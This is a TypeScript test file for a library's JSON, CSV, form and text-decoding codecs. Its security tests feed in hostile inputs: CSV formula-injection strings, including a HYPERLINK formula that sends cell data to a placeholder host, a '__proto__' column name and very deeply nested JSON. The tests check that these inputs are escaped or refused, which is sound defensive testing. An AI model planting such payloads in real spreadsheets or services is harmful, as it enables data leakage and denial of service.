import { describe, expect, test } from 'vitest';
import { until } from '../../../../test/support/until.ts';
import { messageBudget } from './budget.ts';
import { decodeForm, encodeForm } from './form.ts';
import { decodeJson, encodeJson } from './json.ts';
import { codecOf, formatOf, isFormat } from './registry.ts';
import { decodeTable, type Row, type TableDialect, tableRows } from './table-decoder.ts';
import { encodeTable, TableEncoder } from './table-encoder.ts';
import { TextDecoding, textOf } from './text.ts';

const undecodable = (message: string | RegExp) =>
  expect.objectContaining({
    code: 'body_undecodable',
    message: typeof message === 'string' ? message : expect.stringMatching(message),
  });
const all = async <T>(source: AsyncIterable<T>): Promise<T[]> => {
  const found: T[] = [];
  for await (const one of source) found.push(one);
  return found;
};
const decodeCsv = (text: string, dialect: TableDialect) => decodeTable(Buffer.from(text), dialect);
const failureOf = (work: () => unknown): unknown => {
  try {
    return work();
  } catch (error) {
    return error;
  }
};

const tooLarge = (message: string) => expect.objectContaining({ code: 'body_too_large', message });

describe('json', () => {
  test.each<[string, unknown]>([
    ['{"a":9007199254740991}', { a: 9007199254740991 }],
    [
      '{"a":9007199254740993,"b":-123456789012345678901234567890}',
      { a: 9007199254740993n, b: -123456789012345678901234567890n },
    ],
    ['[12345678901234567890.5, 1e100]', [12345678901234567000, 1e100]],
    ['{"text":"1234567890123456789"}', { text: '1234567890123456789' }],
    ['{"a":1,"a":2}', { a: 2 }],
    ['{"a":9007199254740993,"a":2}', { a: 2 }],
    ['null', null],
  ])('%s', (text, value) => {
    expect(decodeJson(text)).toEqual(value);
  });

  test('numbers that no number can hold are refused', () => {
    expect(failureOf(() => decodeJson('{"a":-1e400}'))).toEqual(
      undecodable('the body holds a number that is out of range'),
    );
  });

  test('what is not JSON is refused without repeating it', () => {
    const failure = failureOf(() => decodeJson('{"password":"hunter2",}')) as Error;
    expect(failure).toEqual(undecodable(/^the body is not valid JSON: /));
    expect(failure.message).not.toContain('hunter2');
  });

  test('S-64: depth and keys are bounded, also far beyond the stack', () => {
    const deep = '['.repeat(200_000) + ']'.repeat(200_000);
    expect(failureOf(() => decodeJson(deep))).toEqual(undecodable('the body is nested deeper than 100 levels'));
    expect(failureOf(() => decodeJson('{"a":{"b":1},"c":2}', { ...messageBudget, keys: 2 }))).toEqual(
      tooLarge('the body has more than 2 keys'),
    );
  });

  test('writes what JSON cannot hold by itself', () => {
    const value = {
      a: 1n,
      b: 2n ** 60n,
      c: new Uint8Array([1, 2]),
      d: new Date(0),
      e: undefined,
      f: Number.NaN,
      g: new Map([['x', 3n]]),
    };
    expect(JSON.parse(encodeJson(value))).toEqual({
      a: 1,
      b: '1152921504606846976',
      c: 'AQI=',
      d: '1970-01-01T00:00:00Z',
      f: null,
      g: { x: 3 },
    });
    expect([encodeJson(undefined), encodeJson([undefined])]).toEqual(['null', '[null]']);
  });
});

describe('csv', () => {
  const comma = { delimiter: ',' };

  test('fields in quotes hold delimiters, quotes and line ends (RFC 4180)', () => {
    expect(decodeCsv('a,b\r\n"x, ""y""\r\nz",1\r\n\r\n2,\r\n', comma)).toEqual({
      rows: [
        { a: 'x, "y"\r\nz', b: '1' },
        { a: '2', b: '' },
      ],
    });
    expect(decodeCsv('a\tb\n1\t2', { delimiter: '\t' })).toEqual({ a: '1', b: '2', rows: [{ a: '1', b: '2' }] });
    expect(decodeCsv('', comma)).toEqual({ rows: [] });
    expect(decodeCsv('a,b\n1', comma)).toEqual({ a: '1', rows: [{ a: '1' }] });
  });

  test.each([
    ['a\n"b', 'record 2 has a quote that is never closed'],
    ['a\n1,2', 'row 1 has 2 fields, but the header has 1'],
  ])('%j is refused', (text, message) => {
    expect(failureOf(() => decodeCsv(text, comma))).toEqual(undecodable(message));
  });

  test('what is written is read back the same', () => {
    const rows = [
      { name: 'a "b", c', note: 'line\nend' },
      { name: '', note: '\r' },
    ];
    expect(decodeCsv(encodeTable(rows, comma, false), comma)).toEqual({ rows });
  });

  test('a row of one empty cell is a row, an empty line is not', () => {
    expect(decodeCsv('a\n""\n\n""', comma)).toEqual({ rows: [{ a: '' }, { a: '' }] });
    expect(encodeTable([{ a: '' }, { a: null }], comma)).toBe('a\r\n""\r\n""\r\n');
  });

  test('the header is the union of keys by first appearance; values are texts, structures JSON', () => {
    expect(
      encodeTable(
        [
          { a: 1, b: null },
          { c: [1n], a: true },
        ],
        comma,
      ),
    ).toBe('a,b,c\r\n1,,\r\ntrue,,[1]\r\n');
    expect(encodeTable({ rows: [{ a: 1 }] }, comma)).toBe('a\r\n1\r\n');
    expect(encodeTable(['x', 2], comma)).toBe('value\r\nx\r\n2\r\n');
    expect(encodeTable([], comma)).toBe('');
  });

  test.each([
    ['a\n5" pipe', { a: '5" pipe' }],
    ['a\n"b"c', { a: '"b"c' }],
  ])('%j keeps its quotes', (text, row) => {
    expect(decodeCsv(text, comma)).toEqual({ ...row, rows: [row] });
  });

  test('rows are the same whatever the bytes are divided by', async () => {
    async function* source() {
      const text = ['a,b', '1,"x\ny"', '2,"""é"', '3'].join('\r\n');
      for (const byte of Buffer.from(text)) yield Uint8Array.of(byte);
    }
    const rows = await all(tableRows(source(), comma));
    expect(rows).toEqual([{ a: '1', b: 'x\ny' }, { a: '2', b: '"é' }, { a: '3' }]);
  });

  test('rows are handed over while more are to come', async () => {
    const more = Promise.withResolvers<void>();
    async function* source() {
      yield Buffer.from('a\n1\n2\n3');
      await more.promise;
      yield Buffer.from('4');
    }
    const rows = tableRows(source(), comma);
    expect((await rows.next()).value).toEqual({ a: '1' });
    more.resolve();
    expect(await all(rows)).toEqual([{ a: '2' }, { a: '34' }]);
  });

  test('all rows that are handed over keep one budget', async () => {
    const rows: Row[] = [];
    async function* source() {
      for (const text of ['a\n', '1\n', '2\n', '3\n', '4\n']) yield Buffer.from(text);
    }
    const reading = (async () => {
      const form = { budget: { ...messageBudget, values: 7 } };
      for await (const row of tableRows(source(), comma, form)) rows.push(row);
    })();
    await expect(reading).rejects.toMatchObject(tooLarge('the body holds more than 7 values'));
    expect(rows.length).toBeLessThanOrEqual(3);
  });

  test('a source that is left early, fails or has a record without an end is closed', async () => {
    const closed: string[] = [];
    async function* source(name: string, more: () => Uint8Array) {
      try {
        yield Buffer.from('a\n1\n');
        for (;;) yield more();
      } finally {
        closed.push(name);
      }
    }
    const read = async (name: string, more: () => Uint8Array) => {
      for await (const row of tableRows(source(name, more), comma)) if (row['a'] === '2') return;
    };
    await read('left', () => Buffer.from('2\n'));
    const cut = () => {
      throw new Error('cut');
    };
    await expect(read('failed', cut)).rejects.toThrow('cut');
    const letters = Buffer.alloc(1 << 20, 'x');
    await expect(read('endless', () => letters)).rejects.toMatchObject({ code: 'body_too_large' });
    await until(() => closed.length === 3);
    expect(closed).toEqual(['left', 'failed', 'endless']);
  });

  test('lines are written one by one, S-55 among them', () => {
    const encoder = new TableEncoder(['a', '=b'], comma);
    expect([encoder.header(), encoder.line({ a: '+1', '=b': 'x,y', c: 1 }), encoder.line({})]).toEqual([
      "a,'=b\r\n",
      '\'+1,"x,y"\r\n',
      ',\r\n',
    ]);
  });

  test('S-58: a column named like a prototype is a column', () => {
    const { rows } = decodeCsv('__proto__,a\nx,y\nx,y\n', comma) as { rows: object[] };
    expect([Object.getPrototypeOf(rows[0]), Object.keys(rows[0] as object)]).toEqual([null, ['__proto__', 'a']]);
  });
});

describe('S-55: formulas in tables', () => {
  const lines = (value: unknown, escapeFormulas?: boolean) =>
    encodeTable(value, { delimiter: ',' }, escapeFormulas).split('\r\n').slice(1, -1);

  test.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '＝1',
    '-',
    '--1',
    '=HYPERLINK("http://x?"&A1,"a")',
  ])('the text %j is written as text, in cells, in lists and in the header', (text) => {
    const written = decodeCsv(encodeTable([{ a: text }, { [text]: 1 }], { delimiter: ',' }), { delimiter: ',' });
    expect(written).toEqual({
      rows: [
        { a: `'${text}`, [`'${text}`]: '' },
        { a: '', [`'${text}`]: '1' },
      ],
    });
    expect(encodeTable([text], { delimiter: '\t' }).split('\r\n')[0]).toBe('value');
  });

  test('numbers, negative decimals in texts and harmless texts stay as they are', () => {
    expect(lines([{ a: -1 }, { a: -5n }, { a: '-12.50' }, { a: 'a=b' }, { a: "'=1" }, { a: '' }])).toEqual([
      '-1',
      '-5',
      '-12.50',
      'a=b',
      "'=1",
      '""',
    ]);
  });

  test('the configuration may leave them as they are', () => {
    expect(lines([{ a: '=1+1' }], false)).toEqual(['=1+1']);
  });

  test('a table that is out of proportion to its data is refused', () => {
    const rows = Array.from({ length: 2_000 }, (_, at) => ({ [`k${at}`]: 1 }));
    expect(failureOf(() => encodeTable(rows, { delimiter: ',' }))).toMatchObject({ code: 'output_invalid' });
  });
});

test('forms repeat names for lists', () => {
  const fields = decodeForm('a=1&b=2+3&b=%C3%A9&__proto__=x&c');
  expect(Object.entries(fields)).toEqual([
    ['a', '1'],
    ['b', ['2 3', 'é']],
    ['__proto__', 'x'],
    ['c', ''],
  ]);
  expect(encodeForm({ a: 1, b: ['x', 'y z'], c: null, d: { e: 1 } })).toBe('a=1&b=x&b=y+z&d=%7B%22e%22%3A1%7D');
});

test('text of bytes in the character set that was named', () => {
  expect(textOf(Buffer.from('\ufeffé'))).toBe('é');
  expect(textOf(Buffer.from([0xe9]), 'iso-8859-1')).toBe('é');
  expect(failureOf(() => textOf(Buffer.from([0xff])))).toEqual(
    undecodable('the body is not valid UTF-8: the byte FF at position 0'),
  );
  expect(failureOf(() => textOf(Buffer.from('x'), 'klingon'))).toMatchObject({ code: 'media_type_unsupported' });
});

test('text of bytes that are divided anywhere, and the place of the byte that is wrong', () => {
  const bytes = Buffer.from('\ufeffa é € 😀');
  const decoded = (pieces: readonly Uint8Array[], charset?: string) => {
    const decoding = new TextDecoding(charset);
    return pieces.map((piece) => decoding.write(piece)).join('') + decoding.end();
  };
  expect(decoded(Array.from(bytes, (byte) => Uint8Array.of(byte)))).toBe('a é € 😀');
  expect(decoded([Uint8Array.of(0x82), Uint8Array.of(0xa0)], 'shift_jis')).toBe('あ');
  expect(failureOf(() => decoded([Buffer.from('né'), Uint8Array.of(0xe2, 0x82), Buffer.from('x')]))).toEqual(
    undecodable('the body is not valid UTF-8: the byte E2 at position 3'),
  );
  expect(failureOf(() => decoded([Uint8Array.of(0xc3)]))).toEqual(
    undecodable('the body is not valid UTF-8: the byte C3 at position 0'),
  );
});

test('formats by name and by media type', async () => {
  expect(
    ['application/json', 'application/problem+json', 'text/xml', 'image/svg+xml', 'text/csv', 'text/plain'].map(
      formatOf,
    ),
  ).toEqual(['json', 'json', 'xml', 'xml', 'csv', undefined]);
  expect(['json', 'xml', 'csv', 'tsv', 'form', 'yaml'].map(isFormat)).toEqual([true, true, true, true, false, false]);
  expect((await codecOf('tsv')).encode([{ a: 1, b: 2 }])).toBe('a\tb\r\n1\t2\r\n');
  expect((await codecOf('xml')).contentType).toBe('application/xml; charset=utf-8');
});
